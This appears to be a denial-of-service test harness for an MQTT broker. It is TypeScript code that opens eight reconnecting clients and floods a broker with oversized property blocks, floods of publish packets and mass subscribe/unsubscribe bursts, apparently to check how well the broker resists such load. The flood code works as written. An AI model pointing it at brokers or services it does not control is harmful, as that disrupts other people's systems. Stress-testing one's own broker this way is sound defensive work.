import { connect as connectTcp } from 'node:net'
import { setPriority } from 'node:os'
import { generate, type Packet } from 'mqtt-packet'
import { WebSocket } from 'ws'
import type { Flood } from './attack.ts'

// Clients that flood a broker, in a process of their own. Who is closed comes back at once.

const { kind, over, url, username, password, topic } = JSON.parse(process.argv[2] ?? '') as Flood
const connections = 8
const frame = 200_000
let sent = 0

const written = (packet: object) => generate(packet as Packet, { protocolVersion: 5 })
const times = <Each>(count: number, make: (at: number) => Each) => Array.from({ length: count }, (_, at) => make(at))
/** Of 240 kB. */
const manyProperties = { userProperties: Object.fromEntries(times(30_000, (at) => [at.toString(36), ''])) }
const connect = (more: object = {}) =>
  written({
    cmd: 'connect',
    protocolId: 'MQTT',
    protocolVersion: 5,
    clean: true,
    clientId: '',
    keepalive: 0,
    username,
    password: Buffer.from(password),
    ...more,
  })
const publish = (more: object = {}) =>
  written({ cmd: 'publish', topic, payload: 'x', qos: 0, dup: false, retain: false, ...more })
const subscribing = (messageId: number) => [
  written({
    cmd: 'subscribe',
    messageId,
    subscriptions: times(100, (at) => ({ topic: `devices/+/events/${at}`, qos: 0 })),
  }),
  written({ cmd: 'unsubscribe', messageId, unsubscriptions: times(100, (at) => `devices/+/events/${at}`) }),
]

const floods: Record<Flood['kind'], () => { first: Buffer; rest: Buffer }> = {
  properties: () => ({ first: connect(), rest: publish({ properties: manyProperties }) }),
  propertiesOfConnect: () => ({ first: connect({ properties: manyProperties }), rest: publish() }),
  messages: () => ({ first: connect(), rest: Buffer.concat(times(4_000, () => publish())) }),
  subscriptions: () => ({ first: connect(), rest: Buffer.concat(times(60, (at) => subscribing(at + 1)).flat()) }),
}
const { first, rest } = floods[kind]()

function come(): void {
  const socket =
    over === 'websocket'
      ? new WebSocket(url, 'mqtt')
      : connectTcp({ host: '127.0.0.1', port: Number(new URL(url).port) }).resume()
  const send = (bytes: Buffer, done: (error?: Error | null) => void) =>
    void (socket instanceof WebSocket ? socket.send(bytes, done) : socket.write(bytes, done))
  const sendFrom = (at: number) => {
    sent += 1
    const part = rest.subarray(at, at + frame)
    send(part, (error) => void (error ?? setImmediate(() => sendFrom((at + part.length) % rest.length))))
  }
  socket.on('error', () => {})
  socket.once(over === 'websocket' ? 'open' : 'connect', () => send(first, () => sendFrom(0)))
  socket.once('close', () => setImmediate(come))
}

// The machine is the cloud's, too: attackers have machines of their own.
setPriority(10)
for (let number = 0; number < connections; number += 1) come()
setTimeout(() => process.stdout.write('here\n'), 500)
process.stdin.on('data', () => process.stdout.write(`${sent}\n`, () => process.exit()))
